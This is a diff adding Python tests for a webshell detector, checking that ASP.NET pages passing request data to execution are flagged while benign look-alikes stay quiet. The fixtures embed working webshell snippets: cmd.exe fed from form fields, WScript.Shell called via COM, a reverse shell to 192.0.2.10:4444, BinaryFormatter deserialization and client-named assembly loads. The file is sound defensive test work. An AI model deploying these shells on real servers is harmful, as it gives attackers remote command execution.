@@ -1,0 +1,437 @@
+"""Request values the analysis follows however the page reaches them: the request object held in
+a variable, VB names in any case, `As New`, COM classes by ProgID or CLSID, the page's own
+members, lambdas, parameters typed by their arguments, legacy code pages. Each shell below is
+written for these tests from the published behaviour of the platform (docs/detection/webshell-code.md);
+each has a benign look-alike that must stay below medium."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from code_support import chain_of, medium_or_above, run
+from exhunt.codeanalysis import analyze_code
+from exhunt.model import ProblemKind
+from files_support import hunt, server_file
+
+PROCESS = "EXH-WS-CODE-PROCESS"
+TUNNEL = "EXH-WS-CODE-TUNNEL"
+
+
+def cs_page(body: str) -> str:
+    return f'<%@ Page Language="C#" %>\n<script runat="server">\n{body}\n</script>\n'
+
+
+def vb_page(body: str) -> str:
+    return f'<%@ Page Language="VB" %>\n<script runat="server">\n{body}\n</script>\n'
+
+
+# ----------------------------------------------------------------------------- the request in a variable
+
+
+def test_request_held_in_a_typed_variable_is_request_data() -> None:
+    code = cs_page("""void Page_Load(object sender, EventArgs e) {
+    HttpRequest q = HttpContext.Current.Request;
+    System.Diagnostics.Process.Start("cmd.exe", "/c " + q.Form["c"]);
+}""")
+    report = run("alias.aspx", code)
+    assert PROCESS in medium_or_above(report)
+    assert "form field 'c'" in chain_of(report, PROCESS)
+
+
+def test_request_held_in_var_field_or_parameter_is_request_data() -> None:
+    var = cs_page("""void Page_Load(object sender, EventArgs e) {
+    var r = this.Request;
+    System.Diagnostics.Process.Start("cmd.exe", "/c " + r["c"]);
+}""")
+    field = cs_page("""HttpRequest rq;
+void Page_Load(object sender, EventArgs e) { this.rq = Context.Request; Go(); }
+void Go() { System.Diagnostics.Process.Start("cmd.exe", "/c " + rq.QueryString["c"]); }""")
+    param = cs_page("""void Page_Load(object sender, EventArgs e) { Go(Request); }
+void Go(HttpRequest input) { System.Diagnostics.Process.Start("cmd.exe", "/c " + input.Headers["X-C"]); }""")
+    vb = vb_page("""Sub Page_Load(sender As Object, e As EventArgs)
+    Dim q As HttpRequest = HttpContext.Current.Request
+    System.Diagnostics.Process.Start("cmd.exe", "/c " & q.Form("c"))
+End Sub""")
+    for name, code in (("var.aspx", var), ("field.aspx", field), ("param.aspx", param), ("vb.aspx", vb)):
+        assert PROCESS in medium_or_above(run(name, code)), name
+
+
+def test_request_variable_read_for_the_user_agent_only_stays_quiet() -> None:
+    code = cs_page("""void Page_Load(object sender, EventArgs e) {
+    HttpRequest q = HttpContext.Current.Request;
+    Label1.Text = q.UserAgent + " " + q.Form["name"];
+    System.Diagnostics.Process.Start("notepad.exe", "readme.txt");
+}""")
+    assert medium_or_above(run("alias-benign.aspx", code)) == []
+
+
+def test_request_unvalidated_is_request_data() -> None:
+    code = cs_page("""void Page_Load(object sender, EventArgs e) {
+    System.Diagnostics.Process.Start("cmd.exe", "/c " + Request.Unvalidated.Form["c"]);
+}""")
+    report = run("unvalidated.aspx", code)
+    assert PROCESS in medium_or_above(report)
+    assert "form field 'c'" in chain_of(report, PROCESS)
+
+
+# ----------------------------------------------------------------------------- VB names and As New
+
+
+def test_vb_names_are_one_whatever_their_case() -> None:
+    code = vb_page("""Sub Page_Load(sender As Object, e As EventArgs)
+    Dim Cmd As String = Request.Form("c")
+    Dim psi As New System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " & CMD)
+    System.Diagnostics.Process.Start(psi)
+End Sub""")
+    report = run("case.aspx", code)
+    assert PROCESS in medium_or_above(report)
+
+
+def test_vb_as_new_without_arguments_is_an_object_creation() -> None:
+    code = vb_page("""Sub Page_Load(sender As Object, e As EventArgs)
+    Dim p As New System.Diagnostics.Process()
+    p.StartInfo.FileName = "cmd.exe"
+    p.StartInfo.Arguments = "/c " & Request.Form("c")
+    p.Start()
+End Sub""")
+    assert PROCESS in medium_or_above(run("asnew.aspx", code))
+
+
+def test_vb_fixed_command_with_differently_cased_names_stays_quiet() -> None:
+    code = vb_page("""Sub Page_Load(sender As Object, e As EventArgs)
+    Dim Cmd As String = "ipconfig"
+    Dim Shown As String = Request.Form("c")
+    Dim p As New System.Diagnostics.Process()
+    p.StartInfo.FileName = "cmd.exe"
+    p.StartInfo.Arguments = "/c " & cmd
+    p.Start()
+    Response.Write(Server.HtmlEncode(SHOWN))
+End Sub""")
+    assert medium_or_above(run("case-benign.aspx", code)) == []
+
+
+# ----------------------------------------------------------------------------- COM by ProgID and CLSID
+
+
+def test_com_shell_by_clsid_moniker_runs_commands() -> None:
+    code = """<%@ Page Language="Jscript"%>
+<%
+var q = System.Web.HttpContext.Current.Request.Item["x"];
+var sh = GetObject("new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}");
+sh.Run("cmd /c " + q, 0);
+var out = GetObject("new:72C24DD5-D70A-438B-8A42-98424B88AFB8").Exec("cmd /c " + q);
+%>"""
+    report = run("moniker.aspx", code)
+    assert PROCESS in medium_or_above(report)
+
+
+def test_com_shell_by_progid_type_and_invoke_member_runs_commands() -> None:
+    code = cs_page("""void Page_Load(object sender, EventArgs e) {
+    Type t = Type.GetTypeFromProgID("WScript.Shell");
+    object sh = Activator.CreateInstance(t);
+    t.InvokeMember("Run", System.Reflection.BindingFlags.InvokeMethod, null, sh, new object[] { "cmd /c " + Request["c"] });
+}""")
+    by_clsid = cs_page("""void Page_Load(object sender, EventArgs e) {
+    dynamic sh = Activator.CreateInstance(Type.GetTypeFromCLSID(new Guid("72C24DD5-D70A-438B-8A42-98424B88AFB8")));
+    sh.Exec("cmd /c " + Request["c"]);
+}""")
+    for name, page in (("progid.aspx", code), ("clsid.aspx", by_clsid)):
+        report = run(name, page)
+        assert PROCESS in medium_or_above(report), name
+
+
+def test_other_com_classes_with_request_data_stay_quiet() -> None:
+    code = cs_page("""void Page_Load(object sender, EventArgs e) {
+    Type t = Type.GetTypeFromProgID("Scripting.Dictionary");
+    object d = Activator.CreateInstance(t);
+    t.InvokeMember("Add", System.Reflection.BindingFlags.InvokeMethod, null, d, new object[] { "k", Request["v"] });
+    dynamic x = Activator.CreateInstance(Type.GetTypeFromCLSID(new Guid("00000000-0000-0000-0000-000000000001")));
+    x.Run(Request["v"]);
+}""")
+    assert medium_or_above(run("com-benign.aspx", code)) == []
+
+
+# ----------------------------------------------------------------------------- members, lambdas, parameters
+
+
+def test_page_members_and_lambdas_carry_request_data() -> None:
+    member = cs_page("""string cmd;
+void Page_Load(object sender, EventArgs e) { this.cmd = Request.Form["c"]; Run(); }
+void Run() { System.Diagnostics.Process.Start("cmd.exe", "/c " + this.cmd); }""")
+    lam = cs_page("""void Page_Load(object sender, EventArgs e) {
+    Action<string> go = c => { System.Diagnostics.Process.Start("cmd.exe", "/c " + c); };
+    go(Request.Form["c"]);
+}""")
+    for name, code in (("member.aspx", member), ("lambda.aspx", lam)):
+        assert PROCESS in medium_or_above(run(name, code)), name
+
+
+def test_fixed_member_and_lambda_values_stay_quiet() -> None:
+    code = cs_page("""string cmd;
+void Page_Load(object sender, EventArgs e) {
+    this.cmd = "ipconfig";
+    Action<string> go = c => { System.Diagnostics.Process.Start("cmd.exe", "/c " + c); };
+    go(this.cmd);
+    Label1.Text = Request.Form["c"];
+}""")
+    assert medium_or_above(run("members-benign.aspx", code)) == []
+
+
+VB_SOCKET = """Sub Page_Load(sender As Object, e As EventArgs)
+    Dim client As New System.Net.Sockets.TcpClient()
+    client.Connect("127.0.0.1", 21)
+    Dim ns As System.Net.Sockets.NetworkStream = client.GetStream()
+    Send(ns, "SITE EXEC " & Request.Form("c") & vbCrLf)
+End Sub
+Sub Send(o As Object, data As String)
+    Dim b As Byte() = System.Text.Encoding.ASCII.GetBytes(data)
+    o.Write(b, 0, b.Length)
+End Sub"""
+
+
+def test_an_object_parameter_takes_the_type_of_its_argument() -> None:
+    report = run("ftp-admin.aspx", vb_page(VB_SOCKET))
+    assert TUNNEL in medium_or_above(report)
+    assert "form field 'c'" in chain_of(report, TUNNEL)
+
+
+def test_request_data_written_to_a_memory_stream_through_an_object_parameter_stays_quiet() -> None:
+    code = vb_page(
+        VB_SOCKET.replace("New System.Net.Sockets.TcpClient()", "New System.IO.MemoryStream()")
+        .replace('client.Connect("127.0.0.1", 21)\n', "")
+        .replace(
+            "Dim ns As System.Net.Sockets.NetworkStream = client.GetStream()",
+            "Dim ns As System.IO.MemoryStream = client",
+        )
+    )
+    assert medium_or_above(run("buffer-benign.aspx", code)) == []
+
+
+# ----------------------------------------------------------------------------- legacy code pages
+
+GBK_SHELL = """<%@ Page Language="C#" %>
+<script runat="server">
+// 执行命令
+void Page_Load(object sender, EventArgs e) {
+    string 命令 = Request.Form["c"];
+    System.Diagnostics.Process.Start("cmd.exe", "/c " + 命令);
+}
+</script>"""
+
+
+def test_a_page_in_a_chinese_code_page_is_read_in_it() -> None:
+    data = GBK_SHELL.encode("gbk")
+    report = analyze_code(data, "gbk.aspx")
+    assert report.encoding == "gb18030"
+    assert report.problems == []
+    assert PROCESS in medium_or_above(report)
+    declared = ('<%@ Page Language="C#" CodePage="936" %>' + GBK_SHELL.split("\n", 1)[1]).encode("gbk")
+    assert analyze_code(declared, "cp936.aspx").encoding in {"cp936", "gbk"}
+
+
+def test_a_chinese_page_that_only_shows_text_stays_quiet() -> None:
+    code = GBK_SHELL.replace('System.Diagnostics.Process.Start("cmd.exe", "/c " + 命令);', "Label1.Text = 命令;")
+    report = analyze_code(code.encode("gbk"), "gbk-benign.aspx")
+    assert medium_or_above(report) == [] and report.problems == []
+
+
+def test_text_in_no_known_encoding_is_a_problem() -> None:
+    data = b'<%@ Page Language="C#" %>\n<script runat="server">\n// \x81\xff\xfe\x80\x81\n</script>'
+    report = analyze_code(data, "unknown.aspx")
+    assert [p.kind for p in report.problems] == ["unsupported"]
+    assert "no known encoding" in report.problems[0].message and report.problems[0].line == 2
+    around = b"!BDN\x81\xff\x80" + b'<%@ Page Language="C#" %><% Response.Write(1); %>' + b"\x81\xff\xfe"
+    assert analyze_code(around, "binary-around.aspx").problems == []  # only the code's bytes matter
+    western = analyze_code('<%@ Page Language="C#" %>\n<% // café, naïve %>'.encode("cp1252"), "w.aspx")
+    assert western.encoding == "cp1252" and western.problems == []
+
+
+# ----------------------------------------------------------------------------- page markup beyond the limit
+
+BEHIND = b"""using System;
+public partial class Tools : System.Web.UI.Page {
+    protected void Run_Click(object sender, EventArgs e) {
+        System.Diagnostics.Process.Start("cmd.exe", "/c " + CmdBox.Text);
+    }
+}"""
+
+
+def test_page_markup_larger_than_the_limit_is_a_problem_of_its_code_behind(tmp_path: Path) -> None:
+    behind = server_file(tmp_path, r"C:\inetpub\wwwroot\app\Tools.aspx.cs", BEHIND)
+    padding = b"<p>" + b"x" * 5000 + b"</p>\n"
+    markup = (
+        b'<%@ Page Language="C#" CodeFile="Tools.aspx.cs" %>\n'
+        + padding
+        + b'<asp:TextBox ID="CmdBox" runat="server" />'
+    )
+    server_file(tmp_path, r"C:\inetpub\wwwroot\app\Tools.aspx", markup)
+    small = hunt(behind, max_file_size=4096)
+    problems = [e for e in small.errors if "page markup Tools.aspx is larger" in e.message]
+    assert problems and problems[0].kind == ProblemKind.PARTIAL
+    whole = hunt(behind, max_file_size=len(markup) + 1)
+    assert not [e for e in whole.errors if "page markup" in e.message]
+    assert PROCESS in {f.rule_id for f in whole.findings}
+
+
+# ----------------------------------------------------------------------------- own classes, stdin, sockets
+
+STATIC = cs_page("""public class Util {
+    public static string Exec(string c) {
+        var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + c) { UseShellExecute = false, RedirectStandardOutput = true });
+        return p.StandardOutput.ReadToEnd();
+    }
+}
+void Page_Load(object sender, EventArgs e) {
+    Response.Write(Util.Exec(Request.Form["c"]));
+    new Runner().Go(Request.Form["d"]);
+}
+public class Runner { public void Go(string d) { System.Diagnostics.Process.Start("cmd.exe", "/c " + d); } }""")
+
+
+def test_static_and_instance_methods_of_the_files_own_classes_take_their_arguments() -> None:
+    report = run("own-classes.aspx", STATIC)
+    chains = [c.chain for c in report.capabilities if c.rule_id == PROCESS]
+    assert any("form field 'c'" in c for c in chains) and any("form field 'd'" in c for c in chains)
+
+
+def test_own_class_methods_called_with_fixed_values_stay_quiet() -> None:
+    code = STATIC.replace('Util.Exec(Request.Form["c"])', 'Util.Exec("ver")').replace(
+        'Go(Request.Form["d"])', 'Go("whoami")'
+    )
+    assert medium_or_above(run("own-classes-benign.aspx", code)) == []
+
+
+def test_request_data_written_to_a_started_process_input_runs_commands() -> None:
+    code = cs_page("""void Page_Load(object sender, EventArgs e) {
+    var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe") { RedirectStandardInput = true, UseShellExecute = false };
+    var p = System.Diagnostics.Process.Start(psi);
+    p.StandardInput.WriteLine(Request.Form["c"]);
+    System.IO.StreamWriter input = p.StandardInput;
+    input.WriteLine(Request.Form["d"]);
+}""")
+    report = run("stdin.aspx", code)
+    assert PROCESS in medium_or_above(report)
+    assert "StandardInput.WriteLine" in chain_of(report, PROCESS)
+
+
+REVERSE = cs_page("""void Page_Load(object sender, EventArgs e) {
+    var client = new System.Net.Sockets.TcpClient("192.0.2.10", 4444);
+    var ns = client.GetStream();
+    var rd = new System.IO.StreamReader(ns);
+    var p = new System.Diagnostics.Process();
+    p.StartInfo.FileName = "cmd.exe";
+    p.StartInfo.UseShellExecute = false;
+    p.StartInfo.RedirectStandardInput = true;
+    p.Start();
+    System.IO.StreamWriter stdin = p.StandardInput;
+    while (true) { stdin.WriteLine(rd.ReadLine()); }
+}""")
+
+
+def test_a_reverse_shell_runs_what_its_socket_reads() -> None:
+    report = run("reverse.aspx", REVERSE)
+    assert PROCESS in medium_or_above(report)
+    assert "data read from a socket" in chain_of(report, PROCESS)
+
+
+def test_a_page_that_reads_a_socket_and_shows_or_saves_it_stays_quiet() -> None:
+    code = cs_page("""void Page_Load(object sender, EventArgs e) {
+    var client = new System.Net.Sockets.TcpClient("whois.example.org", 43);
+    var ns = client.GetStream();
+    var bytes = System.Text.Encoding.ASCII.GetBytes(Request.Form["domain"] + "\\r\\n");
+    var rd = new System.IO.StreamReader(ns);
+    string answer = rd.ReadToEnd();
+    System.IO.File.WriteAllText(Server.MapPath("~/App_Data/whois.txt"), answer);
+    Label1.Text = answer;
+    var p = System.Diagnostics.Process.Start("ping.exe", "-n 1 whois.example.org");
+}""")
+    assert medium_or_above(run("whois.aspx", code)) == []
+
+
+# ----------------------------------------------------------------------------- assemblies by path, formatters
+
+
+def test_an_assembly_loaded_from_a_path_the_client_names_runs_its_code() -> None:
+    code = cs_page("""void Page_Load(object sender, EventArgs e) {
+    var asm = System.Reflection.Assembly.LoadFrom(Request.Form["p"]);
+    asm.CreateInstance("X");
+}""")
+    assert "EXH-WS-CODE-ASSEMBLY" in medium_or_above(run("loadfrom.aspx", code))
+
+
+def test_an_assembly_loaded_from_the_sites_bin_stays_quiet() -> None:
+    code = cs_page("""void Page_Load(object sender, EventArgs e) {
+    var asm = System.Reflection.Assembly.LoadFrom(Server.MapPath("bin\\\\Plugins.dll"));
+    Label1.Text = Request.Form["q"];
+}""")
+    assert medium_or_above(run("plugins.aspx", code)) == []
+
+
+def test_request_data_deserialized_by_binary_formatter_is_reported() -> None:
+    code = cs_page("""void Page_Load(object sender, EventArgs e) {
+    var bf = new System.Runtime.Serialization.Formatters.Binary.BinaryFormatter();
+    bf.Deserialize(Request.InputStream);
+}""")
+    report = run("formatter.aspx", code)
+    assert "EXH-WS-CODE-DESERIALIZE" in medium_or_above(report)
+    assert "the request body" in chain_of(report, "EXH-WS-CODE-DESERIALIZE")
+
+
+def test_a_formatter_reading_the_sites_own_file_stays_quiet() -> None:
+    code = cs_page("""void Page_Load(object sender, EventArgs e) {
+    var bf = new System.Runtime.Serialization.Formatters.Binary.BinaryFormatter();
+    using (var fs = System.IO.File.OpenRead(Server.MapPath("~/App_Data/cache.bin"))) { Cache["c"] = bf.Deserialize(fs); }
+}""")
+    assert medium_or_above(run("cache.aspx", code)) == []
+
+
+def test_text_writers_opened_on_a_client_path_write_files() -> None:
+    code = cs_page("""void Page_Load(object sender, EventArgs e) {
+    using (var w = System.IO.File.CreateText(Request.Form["p"])) { w.Write(Request.Form["t"]); }
+    using (var v = new System.IO.FileInfo(Request.Form["q"]).AppendText()) { v.Write(Request.Form["u"]); }
+}""")
+    report = run("writers.aspx", code)
+    assert "EXH-WS-CODE-FILE-WRITE" in medium_or_above(report)
+
+
+def test_text_writers_on_a_site_path_stay_quiet() -> None:
+    code = cs_page("""void Page_Load(object sender, EventArgs e) {
+    using (var w = System.IO.File.CreateText(Server.MapPath("~/App_Data/log.txt"))) { w.Write(Request.Form["t"]); }
+}""")
+    assert medium_or_above(run("log.aspx", code)) == []
+
+
+def test_a_page_in_utf16_without_its_mark_is_read() -> None:
+    page = cs_page("""void Page_Load(object sender, EventArgs e) {
+    System.Diagnostics.Process.Start("cmd.exe", "/c " + Request.Form["c"]);
+}""")
+    for codec in ("utf-16-le", "utf-16-be"):
+        assert PROCESS in medium_or_above(analyze_code(page.encode(codec), "wide.aspx")), codec
+
+
+def test_out_arguments_and_property_getters_carry_request_data() -> None:
+    out = cs_page("""void Page_Load(object sender, EventArgs e) {
+    int port;
+    int.TryParse(Request.Headers["X-PORT"], out port);
+    var c = new System.Net.Sockets.TcpClient(Request.Headers["X-HOST"] ?? "127.0.0.1", port);
+    var d = new System.Collections.Generic.Dictionary<string, string>();
+    d["c"] = Request.Form["c"];
+    if (d.TryGetValue("c", out string v)) System.Diagnostics.Process.Start("cmd.exe", "/c " + v);
+}""")
+    report = run("out.aspx", out)
+    assert {TUNNEL, PROCESS} <= set(medium_or_above(report))
+    prop = cs_page("""string Cmd { get { return Request.Form["c"]; } }
+void Page_Load(object sender, EventArgs e) { System.Diagnostics.Process.Start("cmd.exe", "/c " + Cmd); }""")
+    assert PROCESS in medium_or_above(run("getter.aspx", prop))
+
+
+def test_out_arguments_and_getters_of_fixed_values_stay_quiet() -> None:
+    code = cs_page("""string Cmd { get { return "ipconfig"; } }
+void Page_Load(object sender, EventArgs e) {
+    int n;
+    int.TryParse("5", out n);
+    int.TryParse(Request.Form["page"], out int page);
+    Label1.Text = (page * n).ToString();
+    System.Diagnostics.Process.Start("cmd.exe", "/c " + Cmd);
+}""")
+    assert medium_or_above(run("fixed.aspx", code)) == []
